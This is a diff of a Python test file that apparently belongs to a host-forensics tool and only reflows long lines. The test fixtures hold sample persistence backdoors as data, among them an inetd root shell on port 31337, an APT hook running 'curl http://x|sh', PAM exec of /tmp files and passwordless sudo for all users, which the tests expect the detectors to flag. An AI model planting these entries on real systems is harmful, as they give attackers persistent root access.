@@ -11,7 +11,8 @@ from hostguardd.investigate.interface import Verdict
 
 
 def test_a_table_of_cron_of_the_system() -> None:
-    text = b"SHELL=/bin/sh\n# m h dom\n17 *\t* * *\troot    cd / && x\n*/5 * * * * carol y | z\n@reboot root w\nbad\n"
+    text = b"SHELL=/bin/sh\n# m h dom\n17 *\t* * *\troot    cd / && x\n"
+    text += b"*/5 * * * * carol y | z\n@reboot root w\nbad\n"
     assert list(entries.crontab(text)) == [
         Entry(1, b"", "for every line below", b"SHELL=/bin/sh"),
         Entry(3, b"root", "every hour, at minute 17", b"cd / && x"),
@@ -42,7 +43,8 @@ def test_a_job_of_at_without_its_surroundings() -> None:
 
 
 def test_units_of_systemd() -> None:
-    text = b"[Service]\nExecStartPre=-/bin/a\nExecStart=/opt/x \\\n  -y\nUser=carol\nExecStop=\n[Timer]\nOnCalendar=hourly\n"
+    text = b"[Service]\nExecStartPre=-/bin/a\nExecStart=/opt/x \\\n  -y\n"
+    text += b"User=carol\nExecStop=\n[Timer]\nOnCalendar=hourly\n"
     assert [(one.line, one.who, one.when, one.command) for one in entries.unit(text)] == [
         (2, b"carol", "before the unit starts", b"-/bin/a"),
         (3, b"carol", "when the unit starts", b"/opt/x  -y"),
@@ -54,9 +56,14 @@ def test_inittab_inetd_xinetd() -> None:
     (one,) = entries.inittab(b"id:5:initdefault:\nx:2345:respawn:/dev/shm/x\n")
     assert (one.when, one.command) == ("respawn, in run levels 2345", b"/dev/shm/x")
     inetd = b"echo stream tcp nowait root internal\n31337 stream tcp nowait root /bin/sh sh -i\n"
-    (one,) = entries.inetd(inetd + b"ftp stream tcp nowait root.bin /usr/sbin/tcpd /usr/sbin/in.ftpd\n".replace(b"ftp s", b"#ftp s"))
+    (one,) = entries.inetd(
+        inetd
+        + b"ftp stream tcp nowait root.bin /usr/sbin/tcpd /usr/sbin/in.ftpd\n".replace(b"ftp s", b"#ftp s")
+    )
     assert (one.who, one.when, one.command) == (b"root", "for each connection to 31337/tcp", b"/bin/sh -i")
-    xinetd = b"defaults\n{\n}\nservice rsh\n{\n\tdisable = yes\n\tserver = /usr/sbin/in.rshd\n\tuser = root\n}\n"
+    xinetd = (
+        b"defaults\n{\n}\nservice rsh\n{\n\tdisable = yes\n\tserver = /usr/sbin/in.rshd\n\tuser = root\n}\n"
+    )
     (one,) = entries.xinetd(xinetd)
     assert (one.line, one.when) == (4, "for each connection to rsh, disabled")
 
@@ -67,7 +74,10 @@ def test_udev_pam_apt_modprobe_git() -> None:
     text = b"auth required pam_unix.so\nauth optional pam_exec.so quiet /tmp/x\nauth required /tmp/pam_x.so\n"
     assert [one.line for one in entries.pam(text + b"auth required /lib/security/pam_ok.so\n")] == [2, 3]
     text = b'// c "x"\nDPkg::Post-Invoke { "/tmp/x"; };\nAPT::Update::Pre-Invoke {"curl http://x|sh";};\n'
-    assert [(one.line, one.command) for one in entries.apt(text)] == [(2, b"/tmp/x"), (3, b"curl http://x|sh")]
+    assert [(one.line, one.command) for one in entries.apt(text)] == [
+        (2, b"/tmp/x"),
+        (3, b"curl http://x|sh"),
+    ]
     (one,) = entries.modprobe(b"options x y=1\ninstall usb_storage /bin/true\n")
     assert one.command == b"/bin/true"
     text = b"[core]\n\tpager = less\n\tsshCommand = /tmp/x\n[alias]\n\tst = !/tmp/y\n\tco = checkout\n"
@@ -79,9 +89,12 @@ def worst(found: list[options.Option]) -> list[Verdict]:
 
 
 def test_options_of_sshd() -> None:
-    text = b"PermitRootLogin prohibit-password\n#PermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys\n"
+    text = (
+        b"PermitRootLogin prohibit-password\n#PermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys\n"
+    )
     assert not list(options.sshd(text))
-    text = b"permitrootlogin yes\nAuthorizedKeysCommand /x\nMatch User a\n ForceCommand /y\nPermitEmptyPasswords=yes\n"
+    text = b"permitrootlogin yes\nAuthorizedKeysCommand /x\nMatch User a\n"
+    text += b" ForceCommand /y\nPermitEmptyPasswords=yes\n"
     found = list(options.sshd(text))
     assert [one.line for one in found] == [1, 2, 4, 5]
     assert max(worst(found)) is Verdict.SUSPICIOUS
@@ -90,7 +103,8 @@ def test_options_of_sshd() -> None:
 def test_rules_of_sudo() -> None:
     text = (
         b"Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL) ALL\ncarol ALL=(root) NOPASSWD: ALL\n"
-        b"ALL ALL=(ALL) NOPASSWD: ALL\ndave ALL=/usr/bin/less\nDefaults timestamp_timeout=-1\n@includedir /etc/sudoers.d\n"
+        b"ALL ALL=(ALL) NOPASSWD: ALL\ndave ALL=/usr/bin/less\nDefaults timestamp_timeout=-1\n@includedir "
+        b"/etc/sudoers.d\n"
     )
     found = {one.line: one for one in options.sudoers(text)}
     assert {line: one.verdict.name for line, one in found.items()} == {
@@ -102,7 +116,9 @@ def test_rules_of_sudo() -> None:
 
 def test_other_options() -> None:
     assert worst(list(options.preload(b"\n/usr/lib/x.so\n"))) == [Verdict.SUSPICIOUS]
-    assert worst(list(options.libraries(b"include /etc/ld.so.conf.d/*.conf\n/usr/local/lib\n/tmp/l\n"))) == [Verdict.SUSPICIOUS]
+    assert worst(list(options.libraries(b"include /etc/ld.so.conf.d/*.conf\n/usr/local/lib\n/tmp/l\n"))) == [
+        Verdict.SUSPICIOUS
+    ]
     text = b"127.0.0.1 localhost\n10.0.0.1 db\n127.0.0.1 security.debian.org\n"
     assert worst(list(options.hosts(text))) == [Verdict.FINE, Verdict.SUSPICIOUS]
     assert worst(list(options.trusted(b"+ +\nother\n"))) == [Verdict.SUSPICIOUS, Verdict.NOTABLE]
